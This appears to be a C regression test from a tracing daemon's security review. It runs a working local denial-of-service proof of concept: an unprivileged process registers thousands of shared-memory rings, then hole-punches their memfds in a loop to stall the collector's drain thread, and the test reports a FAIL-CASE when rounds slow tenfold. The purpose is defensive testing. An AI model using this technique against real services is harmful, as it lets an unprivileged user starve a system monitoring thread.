/*
 * attack_review_ring_punch.c — the real collector/ring.c (registration,
 * rings_drain) and common/ring.c's reader against one uid's rings whose
 * memfds a hostile process keeps and hole-punches in a loop.
 *
 * A ring is sealed against shrink/grow/unseal only (it must stay writable),
 * so whoever holds its memfd may fallocate(FALLOC_FL_PUNCH_HOLE) it: the
 * collector's PTEs are zapped and its next touch of the ring (the seq word
 * of the next slot in ht_ring_next, `wake` in rings_drain, `beat` in
 * rings_tick) page-faults, waits on the punch (shmem_falloc) and allocates
 * and zeroes a page — every round, for every ring. rings_drain touches every
 * registered ring every round (every 20 ms idle, before every answer), and a
 * uid may hold max_conns_uid (4096) rings: one process holding all their
 * memfds turns each round from well under a millisecond into tens of ms of
 * the graph thread, with no record sent and no bucket charged.
 *
 * Baseline and attack both run against a busy helper (spinning vs punching),
 * so CPU contention alone is not what is measured.
 * Run as root: prints FAIL-CASE and exits 1 while punching makes a round
 * >= 10x slower and >= 5 ms.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "daemon.h"
#include "hoptrace/ring.h"

#define NAME "\0hoptrace-review-ring-punch"

/* read_ring (records.c) without its buckets: the mapping is touched the same way */
int read_ring(struct collector *c, struct cring *r, uint64_t now, int max, int *more)
{
	uint8_t buf[HT_RING_MAXN * HT_RING_DATA];
	int n = 0, len;
	*more = 0;
	while (n < max && (len = ht_ring_next(&r->rd, buf, sizeof(buf), now)) != 0)
		n++;
	return n;
}

static void sendfd(int s, int fd, const void *d, size_t dl)
{
	struct iovec iov = {(void *)d, dl};
	union {
		char b[CMSG_SPACE(sizeof(int))];
		struct cmsghdr a;
	} cb;
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb.b, .msg_controllen = sizeof(cb.b)};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	sendmsg(s, &mh, 0);
}

static int recvfd(int s)
{
	char d[8];
	union {
		char b[CMSG_SPACE(sizeof(int))];
		struct cmsghdr a;
	} cb;
	struct iovec iov = {d, sizeof(d)};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb.b, .msg_controllen = sizeof(cb.b)};
	if (recvmsg(s, &mh, 0) <= 0 || !CMSG_FIRSTHDR(&mh))
		return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
	return fd;
}

static volatile int *g_mode; /* shared: 0 wait, 1 spin, 2 punch, 3 quit */

/* nobody: N registrants (each a live process with its own ring), one holder
 * of all their memfds that spins or punches */
static void attacker(int n)
{
	int sp[2];
	socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
	for (int i = 0; i < n; i++) {
		if (fork() == 0) {
			int fd = (int)syscall(SYS_memfd_create, "hoptrace", MFD_ALLOW_SEALING);
			ftruncate(fd, HT_RING_SIZE);
			void *p = mmap(NULL, HT_RING_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
			ht_ring_init(p);
			fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL);
			munmap(p, HT_RING_SIZE);
			sendfd(sp[1], fd, "m", 1);
			struct sockaddr_un a = {.sun_family = AF_UNIX};
			memcpy(a.sun_path, NAME, sizeof(NAME) - 1);
			int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
			connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + sizeof(NAME) - 1);
			sendfd(s, fd, "first", 5);
			close(fd);
			char x;
			read(s, &x, 1);
			close(s);
			while (*g_mode != 3)
				pause();
			_exit(0);
		}
	}
	int *fds = calloc((size_t)n, sizeof(int));
	for (int i = 0; i < n; i++)
		fds[i] = recvfd(sp[0]);
	for (;;) {
		int m = *g_mode;
		if (m == 3)
			break;
		if (m == 2)
			for (int i = 0; i < n; i++)
				fallocate(fds[i], FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, HT_RING_SIZE);
		else
			for (volatile int z = 0; z < 100000; z++)
				;
	}
	kill(0, SIGTERM);
	_exit(0);
}

static double rounds(struct collector *c, int k)
{
	uint64_t sum = 0;
	for (int i = 0; i < k; i++) {
		int busy = 0;
		uint64_t t = now_ns();
		rings_drain(c, t, 0, &busy);
		rings_tick(c);
		sum += now_ns() - t;
		usleep(5000);
	}
	return (double)sum / k / 1e6;
}

int main(int argc, char **argv)
{
	int n = argc > 1 ? atoi(argv[1]) : 4096;
	g_mode = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	static struct collector c;
	c.rec.ep = epoll_create1(EPOLL_CLOEXEC);
	c.cf.max_conns_uid = 4096; /* the default (conf.c) */
	c.cf.rate_conn = 1000;
	c.rec.nuids = 1;
	c.rec.uids[0].uid = 65534;
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	memcpy(a.sun_path, NAME, sizeof(NAME) - 1);
	int l = socket(AF_UNIX, SOCK_SEQPACKET, 0), one = 1;
	setsockopt(l, SOL_SOCKET, SO_PASSCRED, &one, sizeof(one));
	if (bind(l, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + sizeof(NAME) - 1) != 0 ||
	    listen(l, 4096) != 0)
		return 2;
	pid_t kid = fork();
	if (kid == 0) {
		setpgid(0, 0);
		if (setresgid(65534, 65534, 65534) || setgroups(0, NULL) || setresuid(65534, 65534, 65534))
			_exit(2);
		attacker(n);
	}
	int regs = 0;
	for (int k = 0; k < n; k++) {
		int s = accept(l, NULL, NULL);
		if (s < 0)
			break;
		struct ucred pc;
		socklen_t pl = sizeof(pc);
		getsockopt(s, SOL_SOCKET, SO_PEERCRED, &pc, &pl);
		struct rconn rc = {.u = 1, .pid = pc.pid};
		char buf[700];
		union {
			char b[CMSG_SPACE(sizeof(struct ucred)) + CMSG_SPACE(sizeof(int) * 4)];
			struct cmsghdr a;
		} cb;
		struct iovec iov = {buf, sizeof(buf)};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb.b, .msg_controllen = sizeof(cb.b)};
		if (recvmsg(s, &mh, MSG_CMSG_CLOEXEC) <= 0) {
			close(s);
			continue;
		}
		struct ucred cr = {0, (uid_t)-1, (gid_t)-1};
		for (struct cmsghdr *cm = CMSG_FIRSTHDR(&mh); cm; cm = CMSG_NXTHDR(&mh, cm))
			if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_CREDENTIALS)
				memcpy(&cr, CMSG_DATA(cm), sizeof(cr));
		regs += ring_register_msg(&c, s, &rc, &mh, &cr);
		close(s);
	}
	printf("uid 65534: %d rings registered (registered_now %d)\n", regs, c.rec.rings.n);
	*g_mode = 1;
	usleep(300000);
	double spin = rounds(&c, 40);
	*g_mode = 2;
	usleep(300000);
	double punch = rounds(&c, 40);
	*g_mode = 3;
	kill(-kid, SIGTERM);
	while (waitpid(-1, NULL, 0) > 0 || errno == EINTR)
		;
	printf("rings_drain + rings_tick per round: %.3f ms (holder spinning), %.3f ms (holder punching holes)\n",
	       spin, punch);
	if (regs == n && punch >= 10 * spin && punch >= 5.0) {
		printf("FAIL-CASE: one uid's %d rings, hole-punched by one process, cost the graph thread %.1f ms a "
		       "round (%.0fx), with no record sent\n", n, punch, punch / (spin > 0 ? spin : 1e-3));
		return 1;
	}
	printf("ok\n");
	return 0;
}
